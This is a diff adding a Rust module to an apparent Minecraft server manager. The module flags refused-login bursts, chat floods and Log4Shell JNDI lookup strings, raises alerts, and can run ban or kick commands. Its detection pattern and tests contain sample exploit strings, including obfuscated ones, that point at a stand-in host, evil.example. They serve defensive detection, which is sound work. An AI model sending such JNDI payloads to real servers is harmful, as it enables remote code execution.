@@ -0,0 +1,552 @@
+//! Heuristics over the console of instances that flag what looks like an attack: a burst of
+//! refused logins from one address, strings exploiting Log4Shell and the like, or a player
+//! flooding the chat. Each one raises a security alert, and can run a mitigation command of the
+//! instance, e.g. `ban-ip {ip}`.
+
+use std::{
+    collections::{BTreeMap, HashMap, VecDeque},
+    net::IpAddr,
+    path::PathBuf,
+    sync::Arc,
+};
+
+use color_eyre::eyre::{eyre, Context};
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+use tokio::sync::{
+    broadcast::{error::RecvError, Receiver},
+    Mutex,
+};
+use tracing::{error, warn};
+use ts_rs::TS;
+
+use crate::{
+    error::{Error, ErrorKind},
+    event_broadcaster::EventBroadcaster,
+    events::{
+        CausedBy, Event, EventInner, InstanceEvent, InstanceEventInner, SecurityEvent,
+        SecurityEventInner,
+    },
+    geoip::parse_client_address,
+    implementations::minecraft::line_parser::{
+        parse_disconnection, parse_player_msg, parse_system_msg,
+    },
+    instance_map::InstanceMap,
+    traits::t_server::{State, TServer},
+    types::{InstanceUuid, Snowflake},
+};
+
+/// reasons a server gives for refusing a login, lowercase
+const REFUSED_LOGIN_REASONS: &[&str] = &[
+    "failed to verify username",
+    "not white-listed",
+    "not whitelisted",
+    "you are banned",
+    "invalid session",
+];
+
+#[derive(
+    Serialize, Deserialize, Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, TS, JsonSchema,
+)]
+#[ts(export)]
+pub enum SuspiciousActivityKind {
+    /// many refused logins from one address
+    FailedLogins,
+    /// a lookup string of Log4Shell or of a similar exploit
+    ExploitAttempt,
+    /// a player sending many chat messages in a short time
+    ChatFlood,
+}
+
+fn default_true() -> bool {
+    true
+}
+
+fn default_failed_login_threshold() -> u32 {
+    5
+}
+
+fn default_chat_flood_threshold() -> u32 {
+    15
+}
+
+fn default_window_seconds() -> u32 {
+    30
+}
+
+#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq, TS)]
+#[ts(export)]
+pub struct SuspiciousActivityPolicy {
+    #[serde(default = "default_true")]
+    pub enabled: bool,
+    /// refused logins from one address within the window before it is flagged
+    #[serde(default = "default_failed_login_threshold")]
+    pub failed_login_threshold: u32,
+    /// chat messages from one player within the window before it is flagged
+    #[serde(default = "default_chat_flood_threshold")]
+    pub chat_flood_threshold: u32,
+    #[serde(default = "default_window_seconds")]
+    pub window_seconds: u32,
+    /// the console command run when an activity is flagged, `{player}` and `{ip}` are replaced
+    /// with the player and address involved
+    #[serde(default)]
+    pub mitigations: BTreeMap<SuspiciousActivityKind, String>,
+}
+
+impl Default for SuspiciousActivityPolicy {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            failed_login_threshold: default_failed_login_threshold(),
+            chat_flood_threshold: default_chat_flood_threshold(),
+            window_seconds: default_window_seconds(),
+            mitigations: BTreeMap::new(),
+        }
+    }
+}
+
+impl SuspiciousActivityPolicy {
+    pub fn validate(&self) -> Result<(), Error> {
+        if self.failed_login_threshold == 0
+            || self.chat_flood_threshold == 0
+            || self.window_seconds == 0
+        {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("Thresholds and the window must be at least 1"),
+            });
+        }
+        if self
+            .mitigations
+            .values()
+            .any(|command| command.trim().is_empty() || command.contains(['\n', '\r']))
+        {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("A mitigation must be a single non empty command"),
+            });
+        }
+        Ok(())
+    }
+
+    /// The mitigation command for an activity, `None` if there is none or it needs a player or
+    /// an address the activity doesn't have
+    fn mitigation(&self, activity: &SuspiciousActivity) -> Option<String> {
+        let mut command = self.mitigations.get(&activity.kind)?.clone();
+        if command.contains("{player}") {
+            // the name ends up in a command, so only take names a player can actually have
+            let player = activity.player.as_ref().filter(|player| {
+                !player.is_empty()
+                    && player.len() <= 16
+                    && player
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || c == '_')
+            })?;
+            command = command.replace("{player}", player);
+        }
+        if command.contains("{ip}") {
+            command = command.replace("{ip}", &activity.ip?.to_string());
+        }
+        Some(command)
+    }
+}
+
+/// Whether a line holds a JNDI lookup, plain or obfuscated, e.g. `${jndi:ldap://...}` or
+/// `${${lower:j}ndi:...}`
+pub fn is_exploit_string(line: &str) -> bool {
+    let line = line.to_lowercase();
+    line.contains("${")
+        && (line.contains("jndi")
+            || line.contains("${lower:")
+            || line.contains("${upper:")
+            || line.contains("${::-"))
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct SuspiciousActivity {
+    kind: SuspiciousActivityKind,
+    player: Option<String>,
+    ip: Option<IpAddr>,
+}
+
+/// What was recently seen on the console of one instance
+#[derive(Default)]
+struct ActivityDetector {
+    failed_logins: HashMap<IpAddr, VecDeque<i64>>,
+    chat: HashMap<String, VecDeque<i64>>,
+    /// when each activity was last flagged, by kind and subject, so a flood is flagged once
+    /// per window rather than on every line
+    flagged: HashMap<(SuspiciousActivityKind, String), i64>,
+}
+
+/// Record `now` and whether the count within the window reached `threshold`
+fn record(times: &mut VecDeque<i64>, now: i64, window_seconds: i64, threshold: u32) -> bool {
+    times.push_back(now);
+    while times
+        .front()
+        .map_or(false, |time| now - time >= window_seconds)
+    {
+        times.pop_front();
+    }
+    times.len() >= threshold as usize
+}
+
+impl ActivityDetector {
+    fn flag(
+        &mut self,
+        activity: SuspiciousActivity,
+        subject: String,
+        now: i64,
+        window_seconds: i64,
+    ) -> Option<SuspiciousActivity> {
+        match self.flagged.get(&(activity.kind, subject.clone())) {
+            Some(flagged_at) if now - flagged_at < window_seconds => None,
+            _ => {
+                self.flagged.insert((activity.kind, subject), now);
+                Some(activity)
+            }
+        }
+    }
+
+    fn observe_output(
+        &mut self,
+        line: &str,
+        policy: &SuspiciousActivityPolicy,
+        now: i64,
+    ) -> Option<SuspiciousActivity> {
+        let window_seconds = policy.window_seconds as i64;
+        if is_exploit_string(line) {
+            let player = parse_player_msg(line).map(|message| message.player);
+            return self.flag(
+                SuspiciousActivity {
+                    kind: SuspiciousActivityKind::ExploitAttempt,
+                    player: player.clone(),
+                    ip: None,
+                },
+                player.unwrap_or_default(),
+                now,
+                window_seconds,
+            );
+        }
+        let (address, reason) = parse_disconnection(&parse_system_msg(line)?)?;
+        let reason = reason.to_lowercase();
+        if !REFUSED_LOGIN_REASONS
+            .iter()
+            .any(|refused| reason.contains(refused))
+        {
+            return None;
+        }
+        let ip = parse_client_address(&address)?;
+        let times = self.failed_logins.entry(ip).or_default();
+        if !record(times, now, window_seconds, policy.failed_login_threshold) {
+            return None;
+        }
+        self.flag(
+            SuspiciousActivity {
+                kind: SuspiciousActivityKind::FailedLogins,
+                player: None,
+                ip: Some(ip),
+            },
+            ip.to_string(),
+            now,
+            window_seconds,
+        )
+    }
+
+    fn observe_chat(
+        &mut self,
+        player: &str,
+        policy: &SuspiciousActivityPolicy,
+        now: i64,
+    ) -> Option<SuspiciousActivity> {
+        let window_seconds = policy.window_seconds as i64;
+        let times = self.chat.entry(player.to_string()).or_default();
+        if !record(times, now, window_seconds, policy.chat_flood_threshold) {
+            return None;
+        }
+        self.flag(
+            SuspiciousActivity {
+                kind: SuspiciousActivityKind::ChatFlood,
+                player: Some(player.to_string()),
+                ip: None,
+            },
+            player.to_string(),
+            now,
+            window_seconds,
+        )
+    }
+}
+
+/// The suspicious activity policies of instances, persisted in the stores directory. Instances
+/// without one use the default policy
+pub struct SuspiciousActivityPolicies {
+    path_to_store: PathBuf,
+    policies: HashMap<InstanceUuid, SuspiciousActivityPolicy>,
+}
+
+impl SuspiciousActivityPolicies {
+    pub fn new(path_to_store: PathBuf) -> Self {
+        Self {
+            path_to_store,
+            policies: HashMap::new(),
+        }
+    }
+
+    pub async fn load_from_file(&mut self) -> Result<(), Error> {
+        if !self.path_to_store.exists() {
+            self.policies = HashMap::new();
+            return Ok(());
+        }
+        let content = tokio::fs::read(&self.path_to_store).await.context(format!(
+            "Failed to read suspicious activity policies file at {}",
+            self.path_to_store.display()
+        ))?;
+        self.policies = serde_json::from_slice(&content).context(format!(
+            "Failed to parse suspicious activity policies file at {}",
+            self.path_to_store.display()
+        ))?;
+        Ok(())
+    }
+
+    pub(crate) async fn write_to_file(&self) -> Result<(), Error> {
+        tokio::fs::write(
+            &self.path_to_store,
+            serde_json::to_string_pretty(&self.policies)
+                .context("Failed to serialize suspicious activity policies")?,
+        )
+        .await
+        .context(format!(
+            "Failed to write suspicious activity policies file at {}",
+            self.path_to_store.display()
+        ))?;
+        Ok(())
+    }
+
+    pub fn get(&self, instance_uuid: &InstanceUuid) -> SuspiciousActivityPolicy {
+        self.policies
+            .get(instance_uuid)
+            .cloned()
+            .unwrap_or_default()
+    }
+
+    pub async fn set(
+        &mut self,
+        instance_uuid: &InstanceUuid,
+        policy: SuspiciousActivityPolicy,
+    ) -> Result<(), Error> {
+        policy.validate()?;
+        let old = self.policies.insert(instance_uuid.clone(), policy);
+        if let Err(e) = self.write_to_file().await {
+            match old {
+                Some(old) => self.policies.insert(instance_uuid.clone(), old),
+                None => self.policies.remove(instance_uuid),
+            };
+            return Err(e);
+        }
+        Ok(())
+    }
+
+    pub async fn remove_instance(&mut self, instance_uuid: &InstanceUuid) -> Result<(), Error> {
+        if let Some(old) = self.policies.remove(instance_uuid) {
+            if let Err(e) = self.write_to_file().await {
+                self.policies.insert(instance_uuid.clone(), old);
+                return Err(e);
+            }
+        }
+        Ok(())
+    }
+}
+
+fn describe(activity: &SuspiciousActivity, instance_name: &str) -> String {
+    match activity.kind {
+        SuspiciousActivityKind::FailedLogins => format!(
+            "Repeated refused logins from {} on {instance_name}",
+            activity
+                .ip
+                .map_or_else(|| "an unknown address".to_string(), |ip| ip.to_string())
+        ),
+        SuspiciousActivityKind::ExploitAttempt => match &activity.player {
+            Some(player) => format!("{player} sent an exploit string on {instance_name}"),
+            None => format!("An exploit string showed up in the console of {instance_name}"),
+        },
+        SuspiciousActivityKind::ChatFlood => format!(
+            "{} is flooding the chat of {instance_name}",
+            activity.player.as_deref().unwrap_or("A player")
+        ),
+    }
+}
+
+/// Watches the console of every instance, raising a security alert and running the mitigation
+/// of the instance for every suspicious activity
+pub async fn suspicious_activity_task(
+    mut event_receiver: Receiver<Event>,
+    policies: Arc<Mutex<SuspiciousActivityPolicies>>,
+    instances: InstanceMap,
+    event_broadcaster: EventBroadcaster,
+) {
+    let mut detectors: HashMap<InstanceUuid, ActivityDetector> = HashMap::new();
+    loop {
+        let event = match event_receiver.recv().await {
+            Ok(event) => event,
+            Err(RecvError::Lagged(_)) => {
+                warn!("Suspicious activity task lagged");
+                continue;
+            }
+            Err(RecvError::Closed) => break,
+        };
+        let InstanceEvent {
+            instance_uuid,
+            instance_name,
+            instance_event_inner,
+        } = match event.event_inner {
+            EventInner::InstanceEvent(instance_event) => instance_event,
+            _ => continue,
+        };
+        if let InstanceEventInner::StateTransition {
+            to: State::Stopped | State::Crashed,
+        } = instance_event_inner
+        {
+            detectors.remove(&instance_uuid);
+            continue;
+        }
+        let policy = policies.lock().await.get(&instance_uuid);
+        if !policy.enabled {
+            continue;
+        }
+        let now = chrono::Utc::now().timestamp();
+        let detector = detectors.entry(instance_uuid.clone()).or_default();
+        let activity = match &instance_event_inner {
+            InstanceEventInner::InstanceOutput { message } => {
+                detector.observe_output(message, &policy, now)
+            }
+            InstanceEventInner::PlayerMessage { player, .. } => {
+                detector.observe_chat(player, &policy, now)
+            }
+            _ => None,
+        };
+        let activity = match activity {
+            Some(activity) => activity,
+            None => continue,
+        };
+        let mitigation = policy.mitigation(&activity);
+        let details = describe(&activity, &instance_name);
+        warn!("{details}");
+        event_broadcaster.send(Event {
+            event_inner: EventInner::SecurityEvent(SecurityEvent {
+                user_id: None,
+                security_event_inner: SecurityEventInner::SuspiciousActivity {
+                    instance_uuid: instance_uuid.clone(),
+                    kind: activity.kind,
+                    player: activity.player.clone(),
+                    ip: activity.ip.map(|ip| ip.to_string()),
+                    mitigation: mitigation.clone(),
+                },
+            }),
+            details,
+            snowflake: Snowflake::default(),
+            caused_by: CausedBy::System,
+        });
+        if let Some(mitigation) = mitigation {
+            if let Some(instance) = instances.get(&instance_uuid) {
+                if let Err(e) = instance.send_command(&mitigation, CausedBy::System).await {
+                    error!("Failed to run mitigation {mitigation} on {instance_uuid} : {e}");
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+
+    use super::{
+        is_exploit_string, ActivityDetector, SuspiciousActivity, SuspiciousActivityKind,
+        SuspiciousActivityPolicy,
+    };
+
+    const REFUSED: &str = "[12:00:00] [Server thread/INFO]: Disconnecting Steve (/203.0.113.7:53412): You are not white-listed on this server!";
+
+    #[test]
+    fn test_is_exploit_string() {
+        assert!(is_exploit_string(
+            "[12:00:00] [Server thread/INFO]: <Steve> ${jndi:ldap://evil.example/a}"
+        ));
+        assert!(is_exploit_string(
+            "${${lower:j}${::-n}di:rmi://evil.example/a}"
+        ));
+        assert!(!is_exploit_string(
+            "[12:00:00] [Server thread/INFO]: <Steve> $5 for a diamond"
+        ));
+    }
+
+    #[test]
+    fn test_failed_logins() {
+        let policy = SuspiciousActivityPolicy {
+            failed_login_threshold: 3,
+            ..Default::default()
+        };
+        let mut detector = ActivityDetector::default();
+        assert_eq!(detector.observe_output(REFUSED, &policy, 0), None);
+        // a normal disconnection isn't a refused login
+        assert_eq!(
+            detector.observe_output(
+                "[12:00:01] [Server thread/INFO]: Steve (/203.0.113.7:53412) lost connection: Disconnected",
+                &policy,
+                1
+            ),
+            None
+        );
+        assert_eq!(detector.observe_output(REFUSED, &policy, 2), None);
+        assert_eq!(
+            detector.observe_output(REFUSED, &policy, 3),
+            Some(SuspiciousActivity {
+                kind: SuspiciousActivityKind::FailedLogins,
+                player: None,
+                ip: Some("203.0.113.7".parse().unwrap()),
+            })
+        );
+        // flagged once per window
+        assert_eq!(detector.observe_output(REFUSED, &policy, 4), None);
+        // the old attempts fell out of the window
+        assert_eq!(detector.observe_output(REFUSED, &policy, 100), None);
+    }
+
+    #[test]
+    fn test_chat_flood_mitigation() {
+        let policy = SuspiciousActivityPolicy {
+            chat_flood_threshold: 3,
+            mitigations: BTreeMap::from([
+                (
+                    SuspiciousActivityKind::ChatFlood,
+                    "kick {player} Slow down".to_string(),
+                ),
+                (
+                    SuspiciousActivityKind::ExploitAttempt,
+                    "ban {player}".to_string(),
+                ),
+            ]),
+            ..Default::default()
+        };
+        let mut detector = ActivityDetector::default();
+        assert!(detector.observe_chat("Steve", &policy, 0).is_none());
+        assert!(detector.observe_chat("Alex", &policy, 0).is_none());
+        assert!(detector.observe_chat("Steve", &policy, 1).is_none());
+        let activity = detector.observe_chat("Steve", &policy, 2).unwrap();
+        assert_eq!(
+            policy.mitigation(&activity).as_deref(),
+            Some("kick Steve Slow down")
+        );
+
+        // no ban without a name a player can have
+        let exploit = detector
+            .observe_output(
+                "[12:00:00] [Server thread/INFO]: <${jndi:ldap://x}> hi",
+                &policy,
+                3,
+            )
+            .unwrap();
+        assert_eq!(exploit.kind, SuspiciousActivityKind::ExploitAttempt);
+        assert_eq!(policy.mitigation(&exploit), None);
+    }
+}